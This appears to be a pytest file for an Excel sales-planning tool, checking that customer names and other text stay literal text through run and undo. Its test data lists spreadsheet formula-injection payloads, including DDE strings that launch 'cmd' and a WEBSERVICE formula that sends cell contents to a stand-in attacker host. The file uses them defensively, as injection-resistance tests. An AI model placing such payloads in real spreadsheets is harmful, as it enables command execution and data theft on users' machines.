"""Promise R3 in Excel: text stays text, whatever it looks like; no button turns it into a formula, number or date."""

from __future__ import annotations

import pandas as pd
import pytest

from salesplan_xl.book.cells.celltext import trimmed
from salesplan_xl.book.plan_book.plan_book import PlanBook
from salesplan_xl.commands.books.new import fill, new_book
from salesplan_xl.demo import demo_tables
from tests.live.books import Desk, file_port, freeze
from tests.live.engine import Excel
from tests.live.engine.model import Fault

pytestmark = pytest.mark.slow

TEXTS = (
    "=cmd|'/C calc'!A0", "=1+1", "+1", "+1+1", "-2", "-2+3", "@SUM(1)", "@A1", '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example/"&A1)', '=DDE("cmd";"/C calc";"x")', "＝1+1", "＋1", "－1", "＠SUM(1)", "{=1+1}", "'=1+1",
    "00123", "001", "'001", "''001", "'", "1e5", "1E5", "1-2", "3/4", "1/2/3", "2027-03", "2027-03-31", "2027/3/31",
    "2027年3月", "3月5日", "5%", "50 %", "¥100", "￥100", "$5", "€5", "1,200", "(5)", "1.", ".5", "0x1F", "12:30", "1:2", "9:00 AM",
    "TRUE", "true", "False", "FALSE", "May 5", "may-5", "Mar 2027", "march 3", "Jan-1", "Dec/24", "Sept. 3", "5 May", "1 1/2",
    "#N/A 1", "#REF", "#DIV/0", "\t=2+2", " =3+3", "\n=4+4", "=1+1\n=2", "a\nb", "\u3000=5", "\u200b=6", "12345678901234567890",
    "1_000", "%5", "/", "*", "&A1", "~", '"=1"', "_x003D_1", "NaN", "Infinity", "E5", "A1", "R1C1", "tblMap[客户]", "😀=1",
)  # fmt: skip


@pytest.fixture(autouse=True)
def _frozen(monkeypatch: pytest.MonkeyPatch) -> None:
    freeze(monkeypatch)


def test_there_are_enough_of_them() -> None:
    assert len(set(TEXTS)) == len(TEXTS) >= 60


def test_text_is_still_text_after_a_plan_in_excel(excel: Excel) -> None:
    """As customers, next steps and project names; new rows, changed rows and rows that come back are written."""
    desk = nasty_desk(excel)
    formulas = _formulas(desk)
    for command in ("run", "undo", "run"):
        assert not any(alert.mode == "critical" for alert in desk.press(command)), desk.excel.alerts[-1]
        desk.command(command)
        assert desk.differences() == [], command
    for table in ("health", "targets", "map"):
        names = _texts(desk, table, "customer")
        assert {trimmed(text) for text in TEXTS} - set(names) == set(), table
    assert _texts(desk, "customers", "name")[: len(TEXTS)] == list(TEXTS)
    assert _texts(desk, "opportunities", "next_step")[: len(TEXTS)] == list(TEXTS)
    assert {formula for formula in _formulas(desk) if "evil" in formula or "cmd" in formula} == set()
    assert _formulas(desk) >= formulas


def test_an_error_value_among_the_names_is_told(excel: Excel) -> None:
    """A lookup that found nothing, pasted as a customer's name: said where, nothing written."""
    desk = Desk.open(excel, "zh", "few")
    cell = desk.column("customers", "name")[2]
    desk.excel.sheet(desk.sheet("customers").name).cell(cell.row, cell.column).value = Fault("#N/A")
    before = desk.excel.state(desk.book)
    (said,) = desk.press("run")
    assert said.mode == "critical"
    assert f"{desk.sheet('customers').name}!{cell.address.replace('$', '')}" in said.prompt
    assert "#N/A" in said.prompt
    assert before.differences(desk.excel.state(desk.book)) == []


def nasty_desk(excel: Excel) -> Desk:
    """The demo book in which every name is one of these texts, in Excel and in a file."""
    port, data = new_book("zh"), demo_tables("rep", "zh")
    owners = {"customers": "name", "orders": "customer", "opportunities": "customer"}
    frames = {key: _named(data.tables[key], owner) for key, owner in owners.items()}
    frames["customers"] = frames["customers"].assign(needs=TEXTS, note=TEXTS)
    frames["opportunities"] = frames["opportunities"].assign(project=TEXTS, next_step=TEXTS, bottleneck=TEXTS)
    fill(PlanBook(port), frames, data.settings)
    saved = port.to_bytes()
    return Desk(excel, excel.open(saved), "zh", file_port(saved))


def _named(frame: pd.DataFrame, owner: str) -> pd.DataFrame:
    rows = [number % len(frame) for number in range(len(TEXTS))]
    return frame.iloc[rows].reset_index(drop=True).assign(**{owner: pd.Series(TEXTS, dtype=object)})


def _texts(desk: Desk, table: str, key: str) -> list[object]:
    return list(desk.column(table, key).options(ndim=1).value)


def _formulas(desk: Desk) -> set[str]:
    return {
        formula
        for here in desk.excel.state(desk.book).cells.values()
        for _, formula, _ in here.values()
        if formula is not None
    }
